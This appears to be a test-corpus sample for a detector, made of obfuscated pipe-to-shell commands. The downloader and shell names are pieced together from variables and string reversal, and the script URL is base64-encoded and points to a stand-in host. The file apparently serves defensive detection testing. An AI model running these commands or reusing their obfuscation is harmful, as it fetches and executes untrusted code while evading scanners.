# corpus: pipe-to-shell where the downloader and interpreter names are assembled from variables and base64
u=$(printf '%s' 'aHR0cDovL2V2aWwuZXhhbXBsZS5uZXQvaW5zdGFsbC5zaA==' | base64 -d)
c="cu"; c="${c}rl"
s=$(echo 'hs' | rev)
"$c" -fsSL "$u" | "$s"
w=wget; $w -qO- "$u" | ${SHELL:-/bin/bash} -s -- --quiet
